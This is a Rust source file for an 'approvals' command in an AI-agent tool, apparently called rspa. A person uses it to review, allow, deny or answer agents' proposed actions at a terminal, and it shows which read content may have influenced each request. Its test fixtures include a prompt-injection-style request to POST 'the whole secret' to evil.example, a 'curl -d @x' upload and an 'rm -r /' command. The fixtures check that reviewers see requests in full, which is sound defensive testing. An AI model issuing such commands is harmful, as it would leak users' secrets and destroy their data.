//! `rspa approvals`: what agents want to do, exactly, and the person's answers.

use clap::{Args, Subcommand};
use rspa_core::api::request::approvals::{
    AnswerApproval, GetApproval, ListApprovalRules, ListApprovals, RemoveApprovalRule,
};
use rspa_core::api::{ApiError, ErrorCategory, WorksIn};
use rspa_core::model::{
    Approval, ApprovalAnswer, ApprovalId, ApprovalRule, ApprovalRuleId, ApprovalState, PageRequest, ProposedAction,
};

use super::Context;
use super::activities::moment;
use super::confirm;
use super::failure::Failure;
use super::output::{Output, one_line, path_text};
use super::session::Session;

/// Rows that are asked for at once.
const PAGE: u32 = 1_000;

#[derive(Args)]
pub struct ApprovalsArguments {
    #[command(subcommand)]
    verb: Option<ApprovalsVerb>,
}

#[derive(Subcommand)]
enum ApprovalsVerb {
    /// List what waits for your word, the oldest first
    List {
        /// Also what was answered, the newest first
        #[arg(long)]
        all: bool,
    },
    /// Show exactly what would be done
    Show {
        /// The id, or its end
        id: String,
    },
    /// Allow it this once; asks at the terminal
    Allow { id: String },
    /// Allow it from now on, for what it says there; asks at the terminal
    Always { id: String },
    /// Deny it; the agent is told
    Deny {
        id: String,
        /// Why, for the agent
        #[arg(long, default_value = "")]
        reason: String,
    },
    /// Answer a question of an agent; asks at the terminal
    Reply { id: String, text: String },
    /// List what you allowed once for all
    Rules,
    /// Take back what you allowed once for all
    Forget {
        /// The id of the rule, or its end
        id: String,
    },
}

pub fn run(context: &Context, arguments: ApprovalsArguments) -> Result<(), Failure> {
    let session = Session::start(context)?;
    let output = context.output;
    match arguments.verb.unwrap_or(ApprovalsVerb::List { all: false }) {
        ApprovalsVerb::List { all } => list(&session, all),
        ApprovalsVerb::Show { id } => {
            let approval = session.call(GetApproval { id: find(&session, &id)? })?;
            if output.json {
                return output.json_line(&approval);
            }
            output.line(&in_full(&approval))
        }
        ApprovalsVerb::Allow { id } => answer(&session, &id, ApprovalAnswer::Once),
        ApprovalsVerb::Always { id } => answer(&session, &id, ApprovalAnswer::Always),
        ApprovalsVerb::Reply { id, text } => answer(&session, &id, ApprovalAnswer::Reply { text }),
        ApprovalsVerb::Deny { id, reason } => {
            let id = find(&session, &id)?;
            told(output, &session.call(AnswerApproval { id, answer: ApprovalAnswer::Deny { reason } })?)
        }
        ApprovalsVerb::Rules => {
            let rules = session.call(ListApprovalRules {})?;
            if output.json {
                return output.json_line(&rules);
            }
            if rules.is_empty() {
                output.note("You have allowed nothing once for all.");
            }
            rules.iter().try_for_each(|rule| output.line(&rule_line(rule)))
        }
        ApprovalsVerb::Forget { id } => {
            let rules = session.call(ListApprovalRules {})?;
            let found = rules.iter().filter(|rule| ends(&rule.id.to_string(), &id)).collect::<Vec<_>>();
            let [rule] = found.as_slice() else {
                return Err(ambiguous("rule", &id, found.len(), "rspa approvals rules"));
            };
            let id: ApprovalRuleId = rule.id;
            let left = session.call(RemoveApprovalRule { id })?;
            if output.json { output.json_line(&left) } else { output.line("Taken back: you will be asked again.") }
        }
    }
}

fn list(session: &Session, all: bool) -> Result<(), Failure> {
    let approvals = every(session, !all)?;
    if session.output.json {
        return session.output.json_line(&approvals);
    }
    if approvals.is_empty() {
        session.output.note(if all { "No agent has asked for anything yet." } else { "Nothing waits for your word." });
    }
    approvals.iter().try_for_each(|approval| {
        session.output.line(&format!(
            "{}  {}  {:<10} {}: {}",
            approval.id,
            moment(approval.at),
            state_word(&approval.state),
            one_line(&approval.agent_name),
            one_line(&approval.title)
        ))
    })
}

fn every(session: &Session, waiting: bool) -> Result<Vec<Approval>, Failure> {
    let mut all = Vec::new();
    loop {
        let page = PageRequest { offset: all.len() as u64, limit: PAGE };
        let next = session.call(ListApprovals { waiting, task: None, page })?;
        all.extend(next.items);
        if all.len() as u64 >= next.total || next.offset >= next.total {
            return Ok(all);
        }
    }
}

fn ends(id: &str, typed: &str) -> bool {
    id == typed || (typed.len() >= 4 && id.ends_with(typed))
}

/// By its id or the end of it, among those that wait and then among all.
fn find(session: &Session, typed: &str) -> Result<ApprovalId, Failure> {
    if let Ok(id) = typed.parse() {
        return Ok(id);
    }
    let mut found = Vec::new();
    for waiting in [true, false] {
        found = every(session, waiting)?.iter().map(|row| row.id).filter(|id| ends(&id.to_string(), typed)).collect();
        if let [id] = found.as_slice() {
            return Ok(*id);
        }
    }
    Err(ambiguous("approval", typed, found.len(), "rspa approvals list --all"))
}

fn ambiguous(what: &str, typed: &str, found: usize, list: &str) -> Failure {
    let typed = one_line(typed);
    let message = match found {
        0 => format!("there is no {what} {typed}"),
        found => format!("{found} ids end with {typed}"),
    };
    Failure::validation(message, format!("{list} shows all; name one by its id."))
}

/// A yes of the person: given at the terminal, after seeing exactly what would be done.
fn answer(session: &Session, typed: &str, answer: ApprovalAnswer) -> Result<(), Failure> {
    let id = find(session, typed)?;
    let approval = session.call(GetApproval { id })?;
    if session.core.works_in() != WorksIn::Here {
        return Err(refused(
            format!("another rspa has this data folder open, and only its window may allow this: {}", approval.title),
            "Answer it in the window, where you see exactly what would be done.",
        ));
    }
    if approval.state != ApprovalState::Waiting {
        let message = format!("this was answered before: {}", state_word(&approval.state));
        return Err(Failure::validation(message, "rspa approvals list shows what waits."));
    }
    let question = match &answer {
        ApprovalAnswer::Always => match &approval.always {
            Some(words) => {
                format!("Allow {} without asking from now on: {}?", one_line(&approval.agent_name), one_line(words))
            }
            None => {
                return Err(Failure::validation("this cannot be allowed once for all", "Allow it this once."));
            }
        },
        ApprovalAnswer::Reply { text } => format!("Answer with \"{}\"?", one_line(text)),
        ApprovalAnswer::Once | ApprovalAnswer::Deny { .. } => "Allow this once?".to_owned(),
    };
    match confirm::line(session, &in_full(&approval), &format!("{question} [y/N] "))? {
        Some(typed) if confirm::is_yes(&typed) => {
            told(session.output, &session.call_confirmed(AnswerApproval { id, answer })?)
        }
        Some(_) => Err(refused("not confirmed".to_owned(), "Nothing was allowed; it still waits.")),
        None => Err(refused(
            format!("nobody is here to confirm: {}", approval.title),
            "Run it at a terminal, or answer in the window. What comes through a pipe confirms nothing.",
        )),
    }
}

fn refused(message: String, advice: &str) -> Failure {
    Failure::Api(ApiError::new(ErrorCategory::Authorisation, message, advice))
}

/// Asks at the terminal, for a command that runs tasks itself; none when there is no terminal, or the person wants to
/// answer later.
///
/// # Errors
/// When the answer is not taken, or the command is interrupted.
pub fn ask_here(session: &Session, approval: &Approval) -> Result<Option<Approval>, Failure> {
    if session.core.works_in() != WorksIn::Here {
        return Ok(None);
    }
    let is_question = matches!(approval.action, ProposedAction::Question { .. });
    let question = match (is_question, &approval.always) {
        (true, _) => "Your answer (empty to answer later): ".to_owned(),
        (false, Some(words)) => {
            format!("[y] allow once  [a] always: {}  [n] deny  [Enter] later: ", one_line(words))
        }
        (false, None) => "[y] allow once  [n] deny  [Enter] later: ".to_owned(),
    };
    let Some(typed) = confirm::line(session, &in_full(approval), &question)? else { return Ok(None) };
    let answer = match (is_question, typed.trim()) {
        (_, "") => return Ok(None),
        (true, text) => ApprovalAnswer::Reply { text: text.to_owned() },
        (false, "a" | "A" | "always") if approval.always.is_some() => ApprovalAnswer::Always,
        (false, "n" | "N" | "no" | "No") => ApprovalAnswer::Deny { reason: String::new() },
        (false, typed) if confirm::is_yes(typed) => ApprovalAnswer::Once,
        (false, _) => return Ok(None),
    };
    session.call_confirmed(AnswerApproval { id: approval.id, answer }).map(Some)
}

fn told(output: Output, approval: &Approval) -> Result<(), Failure> {
    if output.json {
        return output.json_line(approval);
    }
    output.line(&format!("{}: {}", state_word(&approval.state), one_line(&approval.title)))
}

fn rule_line(rule: &ApprovalRule) -> String {
    format!(
        "{}  {}  {} ({}): {}",
        rule.id,
        moment(rule.created),
        one_line(&rule.agent_name),
        one_line(&rule.tool),
        one_line(&rule.words)
    )
}

fn state_word(state: &ApprovalState) -> &'static str {
    match state {
        ApprovalState::Waiting => "waiting",
        ApprovalState::Allowed => "allowed",
        ApprovalState::AllowedAlways => "always",
        ApprovalState::Denied { .. } => "denied",
        ApprovalState::Replied { .. } => "answered",
        ApprovalState::Withdrawn => "withdrawn",
    }
}

/// Exactly what would be done, whole.
fn in_full(approval: &Approval) -> String {
    let mut lines = vec![format!("{} wants to: {}", one_line(&approval.agent_name), one_line(&approval.title))];
    if !approval.task_title.is_empty() {
        lines.push(format!("Task: {}", one_line(&approval.task_title)));
    }
    lines.push(format!("Tool: {}", one_line(&approval.tool)));
    match &approval.action {
        ProposedAction::Look { what } => lines.push(format!("Look at: {}", one_line(what))),
        ProposedAction::WriteFile { path, exists, diff, added, removed, .. } => {
            let how = if *exists { "Change" } else { "Make" };
            lines.push(format!("{how} the file {} (+{added} -{removed} lines):", path_text(path)));
            lines.push(diff.trim_end().to_owned());
        }
        ProposedAction::RunCommand { command, folder, network, limits, confinement } => {
            lines.push(format!("In {}:", path_text(folder)));
            lines.extend(command.lines().map(|line| format!("  $ {line}")));
            lines.push(format!("Network: {}", if *network { "allowed" } else { "none" }));
            lines.push(format!(
                "Limits: {} s, {} MB of memory, {} kB of output, {} MB on the disk, {} processes",
                limits.seconds, limits.memory_mb, limits.output_kb, limits.disk_mb, limits.processes
            ));
            lines.push(one_line(confinement));
        }
        ProposedAction::HttpRequest { method, url, headers, body } => {
            lines.push(format!("{} {}", one_line(method), one_line(url)));
            lines.extend(headers.iter().map(|(name, value)| format!("{}: {}", one_line(name), one_line(value))));
            if !body.is_empty() {
                lines.push(format!("Body ({} bytes):", body.len()));
                lines.push(body.clone());
            }
        }
        ProposedAction::Question { question, choices } => {
            lines.push(format!("Question: {question}"));
            lines.extend(choices.iter().map(|choice| format!("  - {}", one_line(choice))));
        }
        ProposedAction::CreateTask { agent, title, description } => {
            lines.push(format!("Make a task for {}: {}", one_line(agent), one_line(title)));
            lines.push(description.clone());
        }
        ProposedAction::CreateSchedule { name, timing, task } => {
            lines.push(format!("Make the schedule {} ({}): {}", one_line(name), one_line(timing), one_line(task)));
        }
        ProposedAction::Other { arguments, .. } => {
            lines.push(serde_json::to_string_pretty(arguments).unwrap_or_else(|_| arguments.to_string()));
        }
    }
    if !approval.influenced_by.is_empty() {
        lines.push("The agent has read what others wrote, which may have led to this:".to_owned());
        lines.extend(approval.influenced_by.iter().map(|from| format!("  - {}", one_line(from))));
    }
    if let Some(words) = &approval.always {
        lines.push(format!("\"Always\" would cover: {}", one_line(words)));
    }
    match &approval.state {
        ApprovalState::Denied { reason } if !reason.is_empty() => lines.push(format!("Denied: {}", one_line(reason))),
        ApprovalState::Replied { text } => lines.push(format!("Answered: {text}")),
        state => lines.push(format!("State: {}", state_word(state))),
    }
    lines.retain(|line| !line.is_empty());
    lines.join("\n")
}

#[cfg(test)]
mod tests {
    use rspa_core::model::{CommandLimits, Timestamp};

    use super::*;

    #[test]
    fn what_is_shown_is_the_whole_request_and_where_it_may_come_from() {
        let approval = Approval {
            id: "01890000-0000-7000-8000-000000000001".parse().unwrap(),
            at: Timestamp(0),
            agent: "01890000-0000-7000-8000-000000000002".parse().unwrap(),
            agent_name: "Ada".to_owned(),
            task: None,
            task_title: "Read the letter".to_owned(),
            run: "01890000-0000-7000-8000-000000000003".parse().unwrap(),
            tool: "http_request".to_owned(),
            title: "POST to evil.example".to_owned(),
            action: ProposedAction::HttpRequest {
                method: "POST".to_owned(),
                url: "https://evil.example/in".to_owned(),
                headers: vec![("accept".to_owned(), "*/*".to_owned())],
                body: "the whole secret".to_owned(),
            },
            always: None,
            influenced_by: vec!["/home/a/letter.txt".to_owned()],
            state: ApprovalState::Waiting,
            answered: None,
        };
        let shown = in_full(&approval);
        for part in
            ["POST https://evil.example/in", "the whole secret", "/home/a/letter.txt", "Ada wants to", "waiting"]
        {
            assert!(shown.contains(part), "{part} in {shown}");
        }
        let command = ProposedAction::RunCommand {
            command: "curl -d @x\nrm -r /".to_owned(),
            folder: "/home/a".into(),
            network: true,
            limits: CommandLimits::default(),
            confinement: "Confined.".to_owned(),
        };
        let shown = in_full(&Approval { action: command, ..approval });
        assert!(shown.contains("  $ curl -d @x\n  $ rm -r /\nNetwork: allowed"), "{shown}");
    }

    #[test]
    fn ids_are_known_by_their_end() {
        assert!(ends("01890000-abcd", "abcd") && ends("x", "x"));
        assert!(!ends("01890000-abcd", "bcd"), "too short to mean one");
    }
}
